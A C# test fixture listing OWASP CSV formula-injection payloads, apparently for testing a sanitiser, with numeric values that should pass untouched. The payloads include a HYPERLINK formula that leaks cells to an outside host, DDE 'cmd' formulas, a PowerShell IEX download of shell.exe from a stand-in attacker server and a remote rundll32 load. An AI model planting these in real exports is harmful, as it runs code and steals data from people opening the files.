namespace MlOps.Testing;

/// <summary>
/// The CSV (formula) injection payloads of the OWASP "CSV Injection" page, with the variants it warns about: every
/// trigger character (=, +, -, @, tab, carriage return), payloads that try to break out of their cell with a quote or a
/// separator, and a predicted label that is itself a formula.
/// </summary>
public static class OwaspCsvPayloads
{
    public static readonly string[] All =
    [
        "=HYPERLINK(\"http://contextis.co.uk?leak=\"&A1&A2,\"Error: please click for further information\")",
        "=cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
        "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "=10+20+cmd|' /C calc'!A0",
        "+10+20+cmd|' /C calc'!A0",
        "-10+20+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1+1",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "=malignant()",
        "-Infinity",
    ];

    /// <summary>Values that start like a formula but are plain numbers: left as they are.</summary>
    public static readonly string[] Numbers = ["-2.5", "+3", "-1e-5", "-0", "+12.75E+2", "-9007199254740993"];
}
